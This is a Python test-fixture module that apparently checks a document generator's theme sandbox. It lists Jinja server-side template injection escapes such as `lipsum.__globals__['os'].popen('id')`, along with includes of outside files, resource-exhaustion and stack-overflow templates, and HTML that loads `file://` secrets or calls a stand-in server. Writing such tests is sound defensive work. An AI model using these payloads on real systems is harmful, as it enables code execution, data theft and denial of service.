"""Theme templates: what a Jinja source can try."""

from __future__ import annotations

from attacks.document import OUTSIDE, PRINTED, SERVER, Document, style, template

_NESTED = "{% for a in range(1000) %}{% for b in range(1000) %}{% for c in range(1000) %}{% endfor %}{% endfor %}{% endfor %}"
_SQUARED = "{% set ns = namespace(x=3) %}{% for i in range(60) %}{% set ns.x = ns.x * ns.x %}{% endfor %}"
_DOUBLED = "{% set ns = namespace(x='xxxxxxxx') %}{% for i in range(40) %}{% set ns.x = ns.x ~ ns.x %}{% endfor %}"

REACHING_OUT = (
    template("class walk", "reach Python through a text's class", "PG504", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    template("view's module", "reach the program's modules through a view", "PG504", "{{ edition.__init__.__globals__ }}"),
    template("attr filter", "the same by a filter", "PG501", "{{ edition|attr('__class__') }}"),
    template("map by attribute", "the same by map", "PG504", "{{ [edition]|map(attribute='__class__')|list }}"),
    template("group by class", "the same by groupby", "PG504", "{{ [edition]|groupby('__class__')|list }}"),
    template("format string", "the same by a format", "PG504", "{{ '{0.__class__}'.format(edition) }}"),
    template("percent format", "read a field by a format", "PG505", "<p>{{ 'aaa'|format(edition) }}</p>"),
    template("macro's code", "reach Python through a macro", "PG504", "{% macro m() %}{% endmacro %}{{ m.__call__.__globals__ }}"),
    template("loop's class", "reach Python through a loop", "PG504", "{% for a in [1] %}{{ loop.__class__ }}{% endfor %}"),
    template("self", "reach the environment through the template", "PG504", "{{ self._TemplateReference__context.environment }}"),
    template("cycler", "reach Python through what Jinja brings", "PG504", "{{ cycler.__init__.__globals__.os }}"),
    template("lipsum", "reach Python through what Jinja brings", "PG502", "{{ lipsum.__globals__['os'].popen('id') }}"),
    template("namespace", "reach Python through a namespace", "PG502", "{{ namespace().__init__.__globals__ }}"),
    template("method", "call what data brings along", "PG504", "{{ edition.parts.index(1) }}"),
    template("change of a list", "change what others print", "PG504", "{{ [1].append(2) }}"),
    template("include by path", "print a file of the machine", "PG503", f'{{% include "{OUTSIDE}/secret.html" %}}'),
    template("include that climbs", "print a file beside the theme", "PG503", '{% include "../../../outside/secret.html" %}'),
    template("import by path", "run a template of the machine", "PG503", f'{{% import "{OUTSIDE}/secret.html" as x %}}'),
    template("extends by address", "load a template from the network", "PG503", f'{{% extends "http://{SERVER}/x.html" %}}'),
    template("escaping off", "print raw HTML of the content", "PG501", "{% autoescape false %}{{ page }}{% endautoescape %}"),
    template("safe", "print raw HTML of the content", "PG501", "{{ '<script>alert(1)</script>'|safe }}"),
    template("do", "statements of Python", "PG501", "{% do edition.clear() %}"),
    template("debug", "print all that the engine knows", "PG501", "{% debug %}"),
)
COSTS = (
    template("three loops", "all the time there is", "PG505", _NESTED),
    template("squares", "numbers without an end", "PG505", _SQUARED),
    template("power", "one number without an end", "PG504", "{{ 9**9**9 }}"),
    template(
        "list of lists", "all the time there is", "PG504", "{% for a in [0]*100000 %}{% for b in [0]*100001 %}{% endfor %}{% endfor %}"
    ),
    template("slice", "a hundred million lists", "PG505", "{{ 'a'|slice(10**8)|list|length }}"),
    template("center", "10 GB in one step", "PG505", "{{ 'a'|center(10**10) }}"),
    template("wide format", "10 GB in one step", "PG505", "{{ '%9999999999d'|format(1) }}"),
    template("batch", "a list of a billion", "PG505", "{{ ['a']|batch(10**9, 'x')|list|length }}"),
    template("round", "a power in one step", "PG505", "{{ 1.5|round(10**9, 'floor') }}"),
    template("indent", "10 GB in one step", "PG505", "{{ 'a'|indent(10**10, true) }}"),
    template("doubling", "a text that doubles forty times", "PG505", _DOUBLED),
    template("replace", "a text that grows a millionfold", "PG505", "{% set x = ('a'*100000)|replace('a', 'b'*100000) %}{{ x|length }}"),
    template("join", "a text that grows a millionfold", "PG505", "{{ ([1]*100000)|join('x'*100000)|length }}"),
    template("wordwrap", "quadratic time in a filter", PRINTED, "{% set x = ('a '*50000)|wordwrap(1) %}"),
    template("striptags", "quadratic time in a filter", PRINTED, "{% set x = ('<!--'*25000)|striptags %}"),
    template("urlize", "quadratic time in a filter", PRINTED, "{% set x = ('http://a.'*11000)|urlize %}"),
    template("title case", "quadratic time in a filter", PRINTED, "{% set x = ('-'*100000)|title %}"),
    template("Markdown bomb", "quadratic time in our filter", PRINTED, "{% set x = ('*a_ '*25000)|md %}"),
    template("Markdown brackets", "quadratic time in our filter", PRINTED, "{% set x = ('['*50000)|md %}"),
    template("parentheses", "the compiler's stack", "PG505", "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}"),
    template("nested ifs", "the compiler's stack", "PG505", "{% if 1 %}" * 300 + "{% endif %}" * 300),
    template("nested loops", "the compiler's stack", "PG505", "{% for a in [1] %}" * 25 + "{% endfor %}" * 25),
    template("chain of filters", "the compiler's stack", "PG505", "{{ 1" + "|string" * 3000 + " }}"),
    template("recursive macro", "Python's stack", "PG505", "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}"),
    template("half a character", "a text that cannot be written", "PG505", r"{{ '\ud800' }}"),
    template("infinity", "a number that is none", PRINTED, "<p>{{ 1e400 }}</p>"),
    template("3 MB of template", "memory, before anything runs", "PG506", "x" * 3_000_000),
)
MARKUP = (
    template("script", "run a script in the PDF", PRINTED, "<script>fetch('http://" + SERVER + "')</script>"),
    template("attachment", "attach a file of the machine", "PG602", f'<a rel="attachment" href="file://{OUTSIDE}/secret.txt">x</a>'),
    template("attached link", "attach a file from the head", "PG602", f'<link rel="attachment" href="file://{OUTSIDE}/secret.txt">'),
    template("base", "turn addresses to another folder", "PG601", f'<base href="file://{OUTSIDE}/"><img src="secret.png" alt="x">'),
    template("file image", "print a picture of the machine", "PG602", f'<img src="file://{OUTSIDE}/secret.png" alt="x">'),
    template("network image", "tell a server that the guide is printed", "PG602", f'<img src="http://{SERVER}/x.png" alt="x">'),
    template("without a scheme", "the same", "PG602", f'<img src="//{SERVER}/x.png" alt="x">'),
    template("srcset", "load by the other attribute", PRINTED, f'<p><img srcset="file://{OUTSIDE}/secret.png 2x" alt="x"></p>'),
    template("object", "load a document", "PG602", f'<object data="file://{OUTSIDE}/secret.html"></object>'),
    template("embed", "load a document", "PG602", f'<embed src="file://{OUTSIDE}/secret.png">'),
    template("frame", "load a document", "PG602", f'<iframe src="file://{OUTSIDE}/secret.html"></iframe>'),
    template("input image", "load a picture by a field", PRINTED, f'<input type="image" src="file://{OUTSIDE}/secret.png">'),
    template(
        "style sheet link", "load a style sheet of the machine", "PG602", f'<link rel="stylesheet" href="file://{OUTSIDE}/secret.css">'
    ),
    template("style in a template", "load by a style", "PG602", f"<p style=\"background: url('file://{OUTSIDE}/secret.png')\">x</p>"),
    template("encoded address", "climb by escapes", "PG602", '<img src="%2e%2e/%2e%2e/outside/secret.png" alt="x">'),
    template("data address", "carry a picture along", "PG602", '<img src="data:image/svg+xml,<svg/>" alt="x">'),
    template("script link", "a link that runs", "PG602", '<p><a href="javascript:alert(1)">here</a></p>'),
    template("file link", "a link that tells where the project is", "PG602", f'<p><a href="file://{OUTSIDE}/secret.txt">here</a></p>'),
    template(
        "inline SVG use",
        "load a drawing of the machine",
        "PG602",
        f'<svg><title>x</title><use href="file://{OUTSIDE}/secret.svg#a"/></svg>',
    ),
    template(
        "inline SVG image",
        "load a picture of the machine",
        "PG602",
        f'<svg><title>x</title><image href="file://{OUTSIDE}/secret.png"/></svg>',
    ),
    template("comments without an end", "quadratic time in a scan", PRINTED, "<!--" * 100_000 + "-->"),
    template("styles without an end", "quadratic time in a scan", "PG802", "<style></style>" * 20_000),
    template("tags without an end", "quadratic time in a scan", f"{PRINTED} or PG802", '<p title="' * 50_000 + '"></p>'),
    template("links without an end", "quadratic time in a search for links", f"{PRINTED} or PG604 or PG802", "<a " * 50_000),
    template(
        "spans without an end", "quadratic time in a search for marks", PRINTED, "<p>" + '<span claim="x">' * 15 + "</span>" * 15 + "</p>"
    ),
    template("nested elements", "the engine's stack", "PG606 or PG802", "<div>" * 2_000 + "x" + "</div>" * 2_000),
    template("wide table", "a table of a billion cells", "PG802", '<table><tr><td colspan="1000000000">x</td></tr></table>'),
    template("5,000 absent pictures", "a message for each", "PG601", "".join(f'<img src="a{n}.png" alt="x">' for n in range(5000))),
)
OTHER_WAYS = (
    Document(
        "linked template", "print a file of the machine", "PG506", links={"templates/evil/sections/glossary.html": f"{OUTSIDE}/secret.html"}
    ),
    Document("linked folder of partials", "print files of the machine", "PG506", links={"templates/evil/sections": f"{OUTSIDE}/sections"}),
    Document("piped template", "wait for ever", "PG506", pipes=("templates/evil/sections/glossary.html",)),
    Document("template from a device", "read without an end", "PG506", links={"templates/evil/sections/glossary.html": "/dev/zero"}),
    style("harmless", "nothing: what is sound prints", PRINTED, "p { color: black }"),
)
DOCUMENTS = (*REACHING_OUT, *COSTS, *MARKUP, *OTHER_WAYS)
